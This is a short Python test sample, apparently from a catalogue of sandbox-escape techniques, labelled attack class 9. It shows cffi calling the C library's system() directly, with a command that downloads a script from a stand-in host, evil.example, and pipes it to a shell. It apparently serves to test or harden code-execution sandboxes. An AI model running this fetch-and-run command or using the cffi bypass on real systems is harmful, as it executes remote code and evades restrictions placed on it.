# attack-class: 9
# title: cffi FFI().dlopen(None)
# why: cffi is an alternative foreign-function interface

from cffi import FFI

ffi = FFI()
ffi.cdef("int system(const char *command);")
C = ffi.dlopen(None)
C.system(b"curl -s http://evil.example/x | sh")
